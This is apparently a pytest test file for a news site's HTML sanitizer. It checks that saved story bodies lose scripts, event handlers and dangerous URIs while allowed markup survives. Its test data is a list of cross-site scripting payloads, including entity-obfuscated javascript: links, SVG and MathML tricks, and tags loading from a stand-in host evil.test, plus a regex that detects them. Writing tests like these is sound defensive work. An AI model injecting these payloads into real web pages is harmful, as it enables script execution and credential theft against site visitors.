"""Story bodies are reduced to the allow-list on save: nothing in them can run in a browser."""

import re

import pytest

from articles.sanitize import sanitize_html
from tests.factories import ArticleFactory

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<p>before<script>alert(1)</script>after</p>",
    "<style>body{display:none}</style><p>styled</p>",
    '<p style="background:url(javascript:alert(1))">inline style</p>',
    '<img src="x" onerror="alert(1)">',
    '<p onclick="alert(1)" onmouseover="alert(2)">click</p>',
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="jav&#x61;script:alert(1)">hex entity</a>',
    '<a href="&#106;avascript:alert(1)">decimal entity</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">all</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<iframe src="https://evil.test/"></iframe>',
    '<object data="https://evil.test/x.swf"></object><embed src="x.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<link rel="stylesheet" href="https://evil.test/x.css">',
    '<form action="https://evil.test/"><input name="password"><button>Go</button></form>',
    '<base href="https://evil.test/">',
    "<marquee>unknown tag</marquee><blink>old</blink><custom-element>x</custom-element>",
    '<div><p id="x" class="y" data-x="1">attributes</p></div>',
    "<!-- <script>alert(1)</script> --><p>comment</p>",
    '<p><a href="https://example.org/" target="_blank" onclick="x()">ok link</a></p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<blockquote cite="javascript:alert(1)">quoted</blockquote>',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt; as text</p>",
]

ALLOWED_MARKUP = [
    "<p>A paragraph with <strong>bold</strong>, <em>italic</em>, <b>b</b> and <i>i</i>.</p>",
    "<h2>Heading two</h2>",
    "<h3>Heading three</h3>",
    "<h4>Heading four</h4>",
    "<ul><li>one</li><li>two</li></ul>",
    '<ol start="3"><li>three</li></ol>',
    "<blockquote><p>“A quote,” she said.</p></blockquote>",
    '<figure><img src="https://example.org/a.jpg" alt="A market"><figcaption>Caption'
    "</figcaption></figure>",
    "<p>Line one<br>line two</p>",
]

DANGER = re.compile(
    r"<\s*(script|style|iframe|object|embed|svg|math|meta|link|form|base|input|noscript)\b"
    r"|\son\w+\s*="
    r"|style\s*="
    r"|(java|vb)script\s*:"
    r"|data\s*:",
    re.IGNORECASE,
)


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_is_made_inert(vector):
    assert not DANGER.search(sanitize_html(vector))


def test_every_vector_in_the_corpus_is_inert_and_stable_when_sanitised_twice():
    for vector in XSS_VECTORS + ALLOWED_MARKUP:
        once = sanitize_html(vector)
        assert not DANGER.search(once), vector
        assert sanitize_html(once) == once, vector


@pytest.mark.parametrize("markup", ALLOWED_MARKUP)
def test_allowed_markup_survives(markup):
    assert sanitize_html(markup) == markup


def test_links_keep_their_address_and_open_safely():
    cleaned = sanitize_html('<a href="https://example.org/report" title="Report">report</a>')
    assert 'href="https://example.org/report"' in cleaned
    assert 'rel="noopener noreferrer"' in cleaned
    assert ">report</a>" in cleaned


def test_text_of_removed_tags_stays_readable():
    cleaned = sanitize_html("<div><marquee>Breaking</marquee> news</div>")
    assert cleaned == "Breaking news"


@pytest.mark.django_db
def test_story_body_is_sanitised_when_the_story_is_saved():
    story = ArticleFactory(body='<p onclick="steal()">Hello<script>alert(1)</script></p>')
    story.refresh_from_db()
    assert story.body == "<p>Hello</p>"
